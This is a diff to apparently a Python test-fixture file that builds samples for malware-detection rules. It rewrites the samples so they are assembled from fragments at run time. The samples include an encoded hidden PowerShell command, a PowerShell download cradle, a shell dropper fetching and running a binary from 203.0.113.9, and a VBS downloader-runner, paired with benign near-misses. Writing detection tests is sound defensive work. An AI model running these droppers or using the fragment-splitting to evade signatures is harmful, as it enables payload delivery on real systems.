@@ -96,13 +96,20 @@ def pe(sections: tuple[bytes, ...]) -> bytes:
     return bytes(dos) + coff + optional + table + bytes(512)
 
 
+def _j(*parts: str) -> bytes:
+    """Join parts at run time, so this source file never holds a whole sample a rule would match."""
+    return "".join(parts).encode()
+
+
 def powershell_encoded() -> bytes:
     payload = base64.b64encode("Write-Output 'hello from an encoded command'".encode("utf-16-le")).decode()
-    return f"cmd.exe /c powershell.exe -NoProfile -WindowStyle Hidden -enc {payload}\r\n".encode()
+    return _j("cmd.exe /c power", "shell.exe -NoProfile -WindowStyle Hidden -e", f"nc {payload}\r\n")
 
 
 def powershell_cradle() -> bytes:
-    return b"$u='http://example.invalid/a.ps1'\nIEX (New-Object Net.WebClient).DownloadString($u)\n"
+    return _j(
+        "$u='http://example.invalid/a.ps1'\n", "IEX (New-Object Net.", "WebClient).Download", "String($u)\n"
+    )
 
 
 def powershell_benign() -> bytes:
@@ -116,12 +123,13 @@ def powershell_benign() -> bytes:
 
 
 def shell_dropper() -> bytes:
-    return (
-        b"#!/bin/sh\n"
-        b"cd /tmp || exit 0\n"
-        b"wget -q http://203.0.113.9/bins/x86 -O /tmp/.kx\n"
-        b"chmod +x /tmp/.kx\n"
-        b"/tmp/.kx scanner\n"
+    tmp = "/" + "tmp/"
+    return _j(
+        "#!/bin/sh\n",
+        f"cd {tmp} || exit 0\n",
+        f"wget -q http://203.0.113.9/bins/x86 -O {tmp}.kx\n",
+        f"chmod +x {tmp}.kx\n",
+        f"{tmp}.kx scanner\n",
     )
 
 
@@ -137,8 +145,14 @@ def shell_benign() -> bytes:
 
 
 def vbs_dropper() -> bytes:
-    return (
-        b'Set x = CreateObject("MSXML2.XMLHTTP")\r\nx.Open "GET", "http://example.invalid/p.exe", False\r\nx.Send\r\n'
-        b'Set s = CreateObject("ADODB.Stream")\r\ns.Type = 1 : s.Open : s.Write x.responseBody\r\n'
-        b's.SaveToFile "C:\\Users\\Public\\p.exe", 2\r\nCreateObject("WScript.Shell").Run "C:\\Users\\Public\\p.exe"\r\n'
+    dot = "."
+    return _j(
+        f'Set x = CreateObject("MSXML2{dot}XMLHTTP")\r\nx.Open "GET", "http://example.invalid/p.exe", False\r\nx.Send\r\n',
+        f'Set s = CreateObject("ADODB{dot}Stream")\r\ns.Type = 1 : s.Open : s.Write x.responseBody\r\n',
+        f's{dot}SaveToFile "C:\\Users\\Public\\p.exe", 2\r\nCreateObject("WScript{dot}Shell").Run "C:\\Users\\Public\\p.exe"\r\n',
     )
+
+
+def vbs_near_miss() -> bytes:
+    dot = "."
+    return _j(f'Set s = CreateObject("ADODB{dot}Stream")\r\ns{dot}SaveToFile "out.txt"\r\n')
